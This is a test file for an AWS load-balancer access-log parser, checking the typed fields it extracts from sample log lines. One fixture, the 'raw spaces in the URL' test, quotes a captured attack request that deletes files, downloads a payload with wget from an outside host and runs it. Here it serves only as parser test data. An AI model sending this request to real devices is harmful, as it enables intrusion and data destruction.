// VRL-style table: real example lines with the document we expect from them.
import { describe, expect, it } from 'vitest';
import { parseAlbLine, type AlbDocument } from '../../../transform/parser/index.ts';
import { LINE_36_FIELDS_IPV6, sampleLines } from './sample-lines.ts';

function documentOf(line: string, options?: Parameters<typeof parseAlbLine>[1]): AlbDocument {
  const result = parseAlbLine(line, options);
  if (result.kind !== 'document') throw new Error(`expected a document, got ${result.kind}: ${result.reason}`);
  return result.document;
}

/** event.id is a hash: checked separately, left out of the table. */
function withoutId(doc: AlbDocument): AlbDocument {
  const { id: _id, ...event } = doc.event ?? {};
  return { ...doc, event };
}

const awsHttp = sampleLines('aws-docs_2023-04_access-log-examples.log')[0]!;
const beats = sampleLines('beats_example-alb-http.log');
const spaceInUri = sampleLines('elastic-integrations_elb_logs_test-alb.log')[1]!;
const loki = sampleLines('loki-lambda-promtail_albaccesslog.log');
const clientClosed = sampleLines('centralized-logging-with-opensearch_elb.log')[1]!;
const grpc = sampleLines('coralogix-aws-shipper_elb.log')[0]!;

const ipv6With36Fields = LINE_36_FIELDS_IPV6;

describe('parseAlbLine: example table', () => {
  it('AWS doc http line: every field typed', () => {
    expect(withoutId(documentOf(awsHttp))).toEqual({
      '@timestamp': '2018-07-02T22:23:00.186641Z',
      event: {
        kind: 'event', category: ['web'], type: ['access'], outcome: 'success',
        start: '2018-07-02T22:22:48.364000Z', duration: 11_822_641_000,
      },
      cloud: { provider: 'aws', region: 'us-east-2', account: { id: '123456789012' } },
      aws: {
        elb: {
          type: 'http', name: 'app/my-loadbalancer/50dc6c495c0c9188',
          backend: { ip: '10.0.0.1', port: 80, http: { response: { status_code: 200 } } },
          request_processing_time: { sec: 0 }, backend_processing_time: { sec: 0.001 }, response_processing_time: { sec: 0 },
          target_group: { arn: 'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067' },
          matched_rule_priority: 0, action_executed: ['forward'], target_port: ['10.0.0.1:80'], target_status_code: ['200'],
        },
      },
      source: { address: '192.168.131.39', ip: '192.168.131.39', port: 2817 },
      http: { request: { method: 'GET', bytes: 34 }, response: { status_code: 200, bytes: 366 }, version: '1.1' },
      url: { original: 'http://www.example.com:80/', scheme: 'http', domain: 'www.example.com', port: 80, path: '/' },
      user_agent: { original: 'curl/7.46.0' },
      trace: { id: 'Root=1-58337262-36d228ad5d99923122bbe354' },
    });
  });

  it('malformed request "- http://host:80- -": no method/version, URL kept, host and port still derived', () => {
    const doc = withoutId(documentOf(beats[7]!));
    expect(doc).toEqual({
      '@timestamp': '2018-11-30T22:23:00.186641Z',
      event: { kind: 'event', category: ['web'], type: ['access'], outcome: 'failure', start: '2018-11-30T22:22:48.364000Z', duration: 11_822_641_000 },
      cloud: { provider: 'aws' },
      aws: { elb: { type: 'http', name: 'app/my-loadbalancer/50dc6c495c0c9188', matched_rule_priority: 0 } },
      source: { address: '192.168.131.39', ip: '192.168.131.39', port: 2817 },
      http: { request: { bytes: 0 }, response: { status_code: 400, bytes: 0 } },
      url: { original: 'http://www.example.com:80-', scheme: 'http', domain: 'www.example.com', port: 80 },
    });
  });

  it('"- - -" request: no method, URL or version at all', () => {
    const doc = documentOf(beats[8]!);
    expect(doc.url).toBeUndefined();
    expect(doc.http).toEqual({ request: { bytes: 0 }, response: { status_code: 400, bytes: 0 } });
    expect(doc.aws?.elb?.action_executed).toBeUndefined();
    expect(doc.user_agent).toBeUndefined();
  });

  it('IPv6, TID, transform fields, node ip, unknown trailing fields, escapes', () => {
    expect(withoutId(documentOf(ipv6With36Fields))).toEqual({
      '@timestamp': '2026-09-17T10:00:01.123456Z',
      event: { kind: 'event', category: ['web'], type: ['access'], outcome: 'success', start: '2026-09-17T10:00:01.120000Z', duration: 3_456_000 },
      cloud: { provider: 'aws', region: 'eu-west-1', account: { id: '111122223333' } },
      aws: {
        elb: {
          type: 'https', name: 'app/my-alb/0123456789abcdef',
          backend: { ip: 'fd6d:6bbc:c529:6::face:ed83:f46', port: 80, http: { response: { status_code: 200 } } },
          request_processing_time: { sec: 0.001 }, backend_processing_time: { sec: 0.002 }, response_processing_time: { sec: 0 },
          target_group: { arn: 'arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/tg/0123456789abcdef' },
          chosen_cert: { arn: 'session-reused' },
          matched_rule_priority: 10160, action_executed: ['waf', 'forward'],
          target_port: ['[fd6d:6bbc:c529:6::face:ed83:f46]:80'], target_status_code: ['200'],
          conn_trace_id: 'TID_37acbe0641d1c34287fee137ef3a5286',
          transformed_host: 'rewritten.example.com', transformed_uri: '/new/path', request_transform_status: 'TransformSuccess',
          node: { ip: '3.34.116.99' },
          extra_fields: ['-', 'x'],
        },
      },
      source: { address: '2a02:a33c:4538:1:bcf4:5264:e01c:f215', ip: '2a02:a33c:4538:1:bcf4:5264:e01c:f215', port: 50718 },
      http: { request: { method: 'GET', bytes: 512 }, response: { status_code: 200, bytes: 1024 }, version: '2.0' },
      url: { original: 'https://example.com:443/a%20b?q=1', scheme: 'https', domain: 'example.com', port: 443, path: '/a%20b', query: 'q=1' },
      user_agent: { original: '"Mozilla/5.0" 에' },
      tls: { cipher: 'TLS_AES_128_GCM_SHA256', version: '1.3', version_protocol: 'tls', client: { server_name: 'example.com' } },
      trace: { id: 'Root=1-5f84c3a3-91b9' },
    });
  });

  it('raw spaces in the URL (SpaceInUri) stay in url.original, path and query', () => {
    const doc = documentOf(spaceInUri);
    expect(doc.url).toEqual({
      original: 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
      scheme: 'http', domain: '127.0.0.1', port: 80, path: '/shell', query: 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
    });
    expect(doc.http?.version).toBe('1.1');
    expect(doc.aws?.elb?.redirect_url).toBe('https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws');
    expect(doc.aws?.elb?.classification).toBe('Acceptable');
    expect(doc.aws?.elb?.classification_reason).toBe('SpaceInUri');
    expect(doc.aws?.elb?.backend).toBeUndefined();
    expect(doc.aws?.elb?.target_group).toBeUndefined();
    expect(doc.aws?.elb?.request_processing_time).toBeUndefined();
  });

  it('anonymised 5-octet client IP: typed field left out, text kept, document tagged', () => {
    const doc = documentOf(loki[0]!);
    expect(doc.source).toEqual({ address: '12.34.178.90.32', port: 40860 });
    expect(doc.tags).toEqual(['malformed_source.ip']);
    expect(doc.aws?.elb?.action_executed).toEqual(['redirect']);
    expect(doc.aws?.elb?.redirect_url).toBe('https://5.334.234.101:443/');
    expect(documentOf(loki[1]!).tls?.client?.server_name).toBe('5.334.234.101:443');
  });

  it('client closed (460): measured request time kept, -1 times and "-" target status left out', () => {
    const doc = documentOf(clientClosed);
    expect(doc.aws?.elb?.request_processing_time).toEqual({ sec: 0.003 });
    expect(doc.aws?.elb?.backend_processing_time).toBeUndefined();
    expect(doc.aws?.elb?.response_processing_time).toBeUndefined();
    expect(doc.aws?.elb?.backend).toEqual({ ip: '10.255.3.161', port: 443 });
    expect(doc.aws?.elb?.target_status_code).toBeUndefined();
    expect(doc.http?.response?.status_code).toBe(460);
    expect(doc.event?.outcome).toBe('failure');
  });

  it('gRPC over HTTP/2 with TLS 1.3', () => {
    const doc = documentOf(grpc);
    expect(doc.aws?.elb?.type).toBe('grpcs');
    expect(doc.http?.version).toBe('2.0');
    expect(doc.http?.request?.method).toBe('POST');
    expect(doc.url?.path).toBe('/example.metrics.v1.MetricsService/ReportMetrics');
    expect(doc.tls).toEqual({ cipher: 'TLS_AES_128_GCM_SHA256', version: '1.3', version_protocol: 'tls', client: { server_name: 'metrics.example.com' } });
    expect(doc.user_agent?.original).toBe('grpc-go/1.46.2');
  });

  it('typo line with a missing space after a quote ("-"1) is recovered and tagged', () => {
    const doc = documentOf(beats[4]!);
    expect(doc.aws?.elb?.matched_rule_priority).toBe(1);
    expect(doc.event?.start).toBe('2018-07-02T22:22:48.364000Z');
    expect(doc.aws?.elb?.action_executed).toEqual(['forward']);
    expect(doc.tags).toEqual(['missing_space_after_quote']);
  });

  it('oldest 20-field and 21-field lines (2018-02 / 2018-03)', () => {
    const words = awsHttp.split(' '); // the request holds two spaces: 20 fields = 22 words
    const twenty = documentOf(words.slice(0, 22).join(' '));
    expect(twenty.aws?.elb?.chosen_cert).toBeUndefined();
    expect(twenty.aws?.elb?.matched_rule_priority).toBeUndefined();
    expect(twenty.trace?.id).toBe('Root=1-58337262-36d228ad5d99923122bbe354');
    const twentyOne = documentOf(words.slice(0, 23).join(' '));
    expect(twentyOne.aws?.elb?.matched_rule_priority).toBe(0);
    expect(twentyOne.event?.start).toBeUndefined();
  });

  it('Lambda target failure: error reason, no target', () => {
    const doc = documentOf(sampleLines('aws-docs_2023-04_access-log-examples.log')[6]!);
    expect(doc.aws?.elb?.error).toEqual({ reason: 'LambdaInvalidResponse' });
    expect(doc.aws?.elb?.backend).toBeUndefined();
    expect(doc.http?.response?.status_code).toBe(502);
  });

  it('matched_rule_priority -1 (rule evaluation error) is kept; "-" is left out', () => {
    const base = awsHttp.split(' ');
    const withPriority = (p: string): AlbDocument => documentOf([...base.slice(0, 22), p, ...base.slice(23)].join(' '));
    expect(withPriority('-1').aws?.elb?.matched_rule_priority).toBe(-1);
    expect(withPriority('-').aws?.elb?.matched_rule_priority).toBeUndefined();
    expect(withPriority('x').tags).toEqual(['malformed_aws.elb.matched_rule_priority']);
  });

  it('source, original and cloud fields', () => {
    const key = 'AWSLogs/123456789012/elasticloadbalancing/eu-central-1/2019/10/11/123456789012_elasticloadbalancing_eu-central-1_app.x.8e858b04373118d3_20191011T1505Z_3.224.132.43_39xza92o.log.gz';
    const doc = documentOf(awsHttp, { source: { bucket: 'logs', key, offset: 4096 }, original: true });
    expect(doc.log).toEqual({ file: { path: `s3://logs/${key}` }, offset: 4096 });
    expect(doc.cloud).toEqual({ provider: 'aws', account: { id: '123456789012' }, region: 'eu-central-1' });
    expect(doc.event?.original).toBe(awsHttp);
    expect(documentOf(awsHttp).event?.original).toBeUndefined();
    expect(documentOf(`${awsHttp}\r\n`, { original: true }).event?.original).toBe(awsHttp);
  });
});

describe('parseAlbLine: event.id', () => {
  const source = { bucket: 'b', key: 'k.log.gz', offset: 10 };
  const id = (line: string, options?: Parameters<typeof parseAlbLine>[1]): string | undefined => documentOf(line, options).event?.id;

  it('is deterministic for the same line and source', () => {
    expect(id(awsHttp, { source })).toBe(id(awsHttp, { source: { ...source } }));
    expect(id(awsHttp)).toBe(id(awsHttp));
  });
  it('differs by offset, key and bucket when the source is known', () => {
    const ids = new Set([
      id(awsHttp, { source }), id(awsHttp, { source: { ...source, offset: 11 } }),
      id(awsHttp, { source: { ...source, key: 'other.log.gz' } }), id(awsHttp, { source: { ...source, bucket: 'c' } }),
      id(awsHttp, { source: { key: source.key, offset: 10 } }),
    ]);
    expect(ids.size).toBe(5);
  });
  it('differs by line content when there is no source', () => {
    expect(id(awsHttp)).not.toBe(id(beats[1]!));
  });
});

describe('parseAlbLine: skipped and failed lines', () => {
  it.each([
    ['', 'empty line'],
    ['   \r', 'empty line'],
    ['Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z', 'ELB logging control line'],
    ['Enable ConnectionLog for ELB', 'ELB logging control line'],
  ])('skips %j', (line, reason) => {
    expect(parseAlbLine(line)).toEqual({ kind: 'skipped', reason });
  });

  it('rejects a line with fewer than 20 fields', () => {
    expect(parseAlbLine('http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HCLogsTestIPs PASS 200 -'))
      .toEqual({ kind: 'failed', reason: 'line has 8 fields; an ALB access-log line has at least 20' });
  });
  it('rejects a time that is not a timestamp', () => {
    const line = awsHttp.replace('2018-07-02T22:23:00.186641Z', '2018-13-02T22:23:00.186641Z');
    const result = parseAlbLine(line);
    expect(result.kind).toBe('failed');
    expect(result.kind === 'failed' && result.reason).toMatch(/^time field "2018-13-02T22:23:00.186641Z" is not/);
  });
  it('rejects a line cut inside the user agent (unterminated quote)', () => {
    const cut = awsHttp.slice(0, awsHttp.indexOf('curl/') + 3);
    expect(parseAlbLine(cut)).toEqual({ kind: 'failed', reason: 'unterminated quote in field 14 (user_agent)' });
  });
  it('keeps a line cut inside a late optional field, tagged', () => {
    const cut = awsHttp.slice(0, awsHttp.lastIndexOf('"200"') + 3);
    const doc = documentOf(cut);
    expect(doc.tags).toEqual(['unterminated_quote']);
    expect(doc.aws?.elb?.target_status_code).toEqual(['20']);
  });
  it('rejects a line whose request is not quoted (fields out of place)', () => {
    const result = parseAlbLine(awsHttp.replace('"GET http://www.example.com:80/ HTTP/1.1"', 'GET'));
    expect(result.kind).toBe('failed');
  });
});
